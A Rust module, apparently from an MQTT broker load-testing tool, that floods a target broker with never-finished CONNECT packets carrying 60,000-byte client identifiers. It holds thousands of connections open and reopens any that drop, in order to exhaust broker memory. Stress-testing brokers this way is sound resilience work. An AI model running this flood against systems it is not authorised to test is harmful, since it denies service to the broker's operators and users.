//! CONNECTs that never end: what does the broker hold of clients that it does not know?

use surewire_load::wire::connect;

use super::each_of;
use crate::flood::aim::{Aim, Count, Deed};
use crate::flood::hostile::Hostile;

/// Bytes of the Client Identifier.
const LONG: usize = 60_000;
const THREADS: u64 = 8;

pub(in crate::flood) fn flood(aim: &Aim<'_>) -> Deed {
    let count = Count::default();
    let mut packet = connect(&"x".repeat(LONG));
    packet.pop();
    let begin = |number: u64| {
        let hostile = Hostile::open(aim, &aim.target(number)).filter(|_| !aim.is_over());
        let begun = hostile.and_then(|mut hostile| hostile.push(&packet).then_some(hostile));
        if begun.is_some() {
            count.did(1)
        } else {
            count.refused()
        }
        begun
    };
    let most = aim.size(8_000, 3_000);
    let mut held = Vec::new();
    // Who is cut off comes again.
    while !aim.is_over() {
        held.retain(|hostile: &Hostile<'_>| !hostile.is_gone());
        let missing = most - held.len() as u64;
        held.extend(each_of(aim, THREADS, missing, begin));
        aim.rest();
    }
    count.deed()
}
